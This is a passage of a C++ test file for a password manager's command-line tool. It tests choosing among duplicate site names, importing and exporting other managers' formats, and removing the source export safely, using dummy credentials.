                 "site,url,user,password,notes\r\ndup,,u1,p1,\r\nDUP,,big,p,\r\ndup,,u2,p2,\r\none,,o,p,\r\n"
                 "dup,,u3,p3,\r\n",
                 "\n");
    const QByteArray db = QFile::encodeName(strDb);
    const QString dup = QStringLiteral("dup");

    struct Case {
        const char* pszWhat;
        QStringList args;
        int nExit;
        QByteArray out;
        QByteArray err;
    } cases[] = {
        {"show without a choice",
         {QStringLiteral("show"), strDb, dup},
         1,
         "",
         "lockwarden-cli: " + db + ": 3 sites are named \"dup\"; choose one with --nth 1 to 3\n"},
        {"rm without a choice",
         {QStringLiteral("rm"), strDb, dup},
         1,
         "",
         "lockwarden-cli: " + db + ": 3 sites are named \"dup\"; choose one with --nth 1 to 3\n"},
        {"edit without a choice",
         {QStringLiteral("edit"), strDb, dup, QStringLiteral("--user=x")},
         1,
         "",
         "lockwarden-cli: " + db + ": 3 sites are named \"dup\"; choose one with --nth 1 to 3\n"},
        {"past the last",
         {QStringLiteral("show"), strDb, dup, QStringLiteral("--nth=4")},
         1,
         "",
         "lockwarden-cli: " + db + ": 3 sites are named \"dup\"; choose one with --nth 1 to 3\n"},
        {"a single name past the first",
         {QStringLiteral("show"), strDb, QStringLiteral("one"), QStringLiteral("--nth=2")},
         1,
         "",
         "lockwarden-cli: " + db + ": 1 site is named \"one\"; choose it with --nth 1\n"},
        {"a single name as the first",
         {QStringLiteral("show"), strDb, QStringLiteral("one"), QStringLiteral("--nth"), QStringLiteral("1")},
         0,
         "Site:  one\nURL:  \nUser:  o\nPswd:  *\n",
         ""},
        {"the second",
         {QStringLiteral("show"), strDb, dup, QStringLiteral("--nth=2")},
         0,
         "Site:  dup\nURL:  \nUser:  u2\nPswd:  **\n",
         ""},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.pszWhat);
        const CCliResult r = RunCli(c.args);
        EXPECT_EQ(r.nExit, c.nExit);
        EXPECT_EQ(r.out, c.out);
        EXPECT_EQ(r.err, c.err);
    }

    // The third is edited and moves to the end; the first is removed; the one left between is the second.
    ASSERT_EQ(
        RunCli({QStringLiteral("edit"), strDb, dup, QStringLiteral("--nth=3"), QStringLiteral("--user=third")}).nExit,
        0);
    ASSERT_EQ(RunCli({QStringLiteral("rm"), strDb, dup, QStringLiteral("--nth"), QStringLiteral("1")}).nExit, 0);
    EXPECT_EQ(ExportRows(strDb, "").join('|'), "DUP,,big,p,|dup,,u2,p2,|one,,o,p,|dup,,third,p3,");

    for (const char* pszBad : {"--nth=0", "--nth=x", "--nth=-1"}) {
        const CCliResult r = RunCli({QStringLiteral("show"), strDb, dup, QString::fromLatin1(pszBad)});
        EXPECT_EQ(r.nExit, 2) << pszBad;
        EXPECT_TRUE(r.err.startsWith("lockwarden-cli: --nth takes a place from 1\nusage:")) << r.err.constData();
    }
    const CCliResult onlyNth = RunCli({QStringLiteral("edit"), strDb, dup, QStringLiteral("--nth=1")});
    EXPECT_EQ(onlyNth.nExit, 2);
    EXPECT_TRUE(onlyNth.err.startsWith("lockwarden-cli: edit: nothing to change\n")) << onlyNth.err.constData();
}

// A name typed in another case reaches the site when it is the only one so named; several ask for --nth.
TEST(CliWrite, EditAndRemoveTakeANameInAnotherCaseWhenItIsTheOnlyOne) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("case.lwd"));
    const QString strCsv = dir.filePath(QStringLiteral("case.csv"));
    WriteFile(strCsv, "site,url,user,password,notes\r\nBank,,b,p,\r\nshop,,s1,p,\r\nShop,,s2,p,\r\nmail,,m,p,\r\n");
    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "\n").nExit, 0);
    ASSERT_EQ(RunCli({QStringLiteral("import"), strDb, strCsv}).nExit, 0);
    const QByteArray db = QFile::encodeName(strDb);

    const CCliResult several = RunCli({QStringLiteral("rm"), strDb, QStringLiteral("SHOP")});
    EXPECT_EQ(several.nExit, 1);
    EXPECT_EQ(several.err, "lockwarden-cli: " + db +
                               ": 2 sites are named \"SHOP\" without regard to case; choose one with --nth 1 to 2\n");
    EXPECT_EQ(RunCli({QStringLiteral("edit"), strDb, QStringLiteral("bank"), QStringLiteral("--user=new")}).nExit, 0);
    EXPECT_EQ(RunCli({QStringLiteral("rm"), strDb, QStringLiteral("MAIL")}).nExit, 0);
    EXPECT_EQ(RunCli({QStringLiteral("rm"), strDb, QStringLiteral("SHOP"), QStringLiteral("--nth=2")}).nExit, 0);
    EXPECT_EQ(ExportRows(strDb, "").join('|'), "shop,,s1,p,|Bank,,new,p,");
}

// Another manager's export comes in once: a dry run writes nothing, a second import adds nothing, a name that
// is there with other fields is added and told as a conflict.
TEST(CliWrite, ImportCountsWhatItAddsAndSkipsAndNeverDoublesASite) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("moved.lwd"));
    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "\n").nExit, 0);
    const QString strJson = DataFile("import/bitwarden.json");
    const QByteArray empty = ReadFile(strDb);

    struct Step {
        const char* pszWhat;
        QStringList args;
        QByteArray out;
        bool bWrites;
    } steps[] = {
        {"a dry run",
         {QStringLiteral("import"), strDb, strJson, QStringLiteral("--dry-run")},
         "added: 3\nskipped identical: 1\nconflicts: 0\nskipped not logins: 2\n",
         false},
        {"the import",
         {QStringLiteral("import"), strDb, strJson},
         "added: 3\nskipped identical: 1\nconflicts: 0\nskipped not logins: 2\n",
         true},
        {"the same file again",
         {QStringLiteral("import"), strDb, strJson},
         "added: 0\nskipped identical: 4\nconflicts: 0\nskipped not logins: 2\n",
         false},
        {"another manager's version of a site",
         {QStringLiteral("import"), strDb, DataFile("import/chrome.csv"), QStringLiteral("--format"),
          QStringLiteral("chrome")},
         "added: 3\nskipped identical: 1\nconflicts: 1\nconflict: example.com\n",
         true},
    };
    for (const Step& step : steps) {
        SCOPED_TRACE(step.pszWhat);
        const QByteArray before = ReadFile(strDb);
        const CCliResult r = RunCli(step.args);
        EXPECT_EQ(r.nExit, 0) << r.err.constData();
        EXPECT_EQ(r.out, step.out);
        EXPECT_EQ(ReadFile(strDb) != before, step.bWrites);
    }
    EXPECT_NE(ReadFile(strDb), empty);
    EXPECT_EQ(ListOf(strDb, ""), "caf\xC3\xA9.example\nexample.com\nexample.com\nPlain\nshop.example\nWifi\n");
}

TEST(CliWrite, ImportRefusesAWrongFormatOrAMalformedSourceAndChangesNothing) {
    QTemporaryDir dir;
    const QString strDb = CopyOfFixture(dir, kFixture);
    const QByteArray before = ReadFile(strDb);
    const QString strBad = dir.filePath(QStringLiteral("bad.json"));
    WriteFile(strBad, "{\"items\": [\n  {\"type\": 1, \"name\": \"x\", \"login\": []}\n]}");
    const QString strChrome = DataFile("import/chrome.csv");
    struct Case {
        const char* pszWhat;
        QStringList args;
        int nExit;
        QByteArray errStart;
    } cases[] = {
        {"the format named is not the file's",
         {QStringLiteral("import"), strDb, strChrome, QStringLiteral("--format=firefox")},
         1,
         "lockwarden-cli: " + QFile::encodeName(strChrome) +
             ": line 1: the header is not that of Firefox CSV (the first unknown column is \"name\")\n"},
        {"a path inside the JSON",
         {QStringLiteral("import"), strDb, strBad},
         1,
         "lockwarden-cli: " + QFile::encodeName(strBad) + ": items[0].login: an object is expected here\n"},
        {"no such format",
         {QStringLiteral("import"), strDb, strChrome, QStringLiteral("--format=opera")},
         2,
         "lockwarden-cli: --format of import is one of lockwarden, chrome, firefox, safari, bitwarden-csv, "
         "bitwarden-json, keepassxc-csv, keepass-xml, 1password, lastpass, protonpass\nusage:"},
        {"a dry run that would remove",
         {QStringLiteral("import"), strDb, strChrome, QStringLiteral("--dry-run"), QStringLiteral("--remove-source")},
         2,
         "lockwarden-cli: --dry-run writes nothing and removes nothing: it does not go with --remove-source\nusage:"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.pszWhat);
        const CCliResult r = RunCli(c.args, "fixture\n");
        EXPECT_EQ(r.nExit, c.nExit);
        EXPECT_TRUE(r.err.startsWith(c.errStart)) << r.err.constData();
        EXPECT_EQ(r.out, "");
        EXPECT_EQ(ReadFile(strDb), before);
    }
}

// The export holds every password in clear: once imported and saved it is overwritten and removed, never
// through a link.
TEST(CliWrite, ImportRemovesTheSourceOnlyWhenAskedAndOnlyTheFileItself) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("moved.lwd"));
    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "\n").nExit, 0);
    const QString strCsv = dir.filePath(QStringLiteral("export.csv"));
    QFile::copy(DataFile("import/lastpass.csv"), strCsv);

    const CCliResult r = RunCli({QStringLiteral("import"), strDb, strCsv, QStringLiteral("--remove-source")});
    EXPECT_EQ(r.nExit, 0) << r.err.constData();
    EXPECT_EQ(r.out, "added: 2\nskipped identical: 1\nconflicts: 0\nremoved: " + QFile::encodeName(strCsv) + "\n");
    EXPECT_FALSE(QFileInfo::exists(strCsv));
    EXPECT_EQ(ListOf(strDb, ""), "example.com\nServer\n");

    // A link is read through, but neither it nor what it points at is overwritten or removed.
    const QString strTarget = dir.filePath(QStringLiteral("target.csv"));
    const QString strLink = dir.filePath(QStringLiteral("link.csv"));
    QFile::copy(DataFile("import/safari.csv"), strTarget);
    ASSERT_TRUE(QFile::link(strTarget, strLink));
    const CCliResult linked = RunCli({QStringLiteral("import"), strDb, strLink, QStringLiteral("--remove-source")});
    EXPECT_EQ(linked.nExit, 1);
    EXPECT_TRUE(linked.err.startsWith("lockwarden-cli: " + QFile::encodeName(strLink) + ": "))
        << linked.err.constData();
    EXPECT_EQ(ReadFile(strTarget), ReadFile(DataFile("import/safari.csv")));
    EXPECT_TRUE(QFileInfo(strLink).isSymLink());
    EXPECT_EQ(ListOf(strDb, ""), "example.com\nexample.com\nRouter\nServer\n");
}

// Leaving is as easy as coming: the export layouts of Bitwarden and KeePassXC, read back to the same sites.
TEST(CliWrite, ExportWritesTheLayoutsOfOtherManagersThatReadBackToTheSameSites) {
    QTemporaryDir dir;
    const QString strDb = dir.filePath(QStringLiteral("out.lwd"));
    MakeDatabase(strDb,
                 "site,url,user,password,notes\r\nBank,https://bank.example,ann,\"p,\"\"w\",\"two\r\nlines\"\r\n"
                 "mail,,,m,\r\n",
                 "\n");
    struct Case {
        const char* pszFormat;
        QByteArray out;
    } cases[] = {
        {"bitwarden-csv",
         "folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,login_password,login_totp\r\n"
         ",,login,Bank,\"two\r\nlines\",,0,https://bank.example,ann,\"p,\"\"w\",\r\n"
         ",,login,mail,,,0,,,m,\r\n"},
        {"keepassxc-csv", "\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\",\"Icon\",\"Last "
                          "Modified\",\"Created\"\r\n"
                          ",Bank,ann,\"p,\"\"w\",https://bank.example,\"two\r\nlines\",,,,\r\n"
                          ",mail,,m,,,,,,\r\n"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.pszFormat);
        const CCliResult r =
            RunCli({QStringLiteral("export"), strDb, QStringLiteral("--format"), QString::fromLatin1(c.pszFormat)});
        EXPECT_EQ(r.nExit, 0) << r.err.constData();
        EXPECT_EQ(r.out, c.out);
        const QString strOut = dir.filePath(QString::fromLatin1(c.pszFormat) + QStringLiteral(".csv"));
        WriteFile(strOut, r.out);
        const CCliResult back = RunCli({QStringLiteral("import"), strDb, strOut, QStringLiteral("--dry-run")});
        EXPECT_TRUE(back.out.startsWith("added: 0\nskipped identical: 2\nconflicts: 0\n")) << back.out.constData();
    }
}
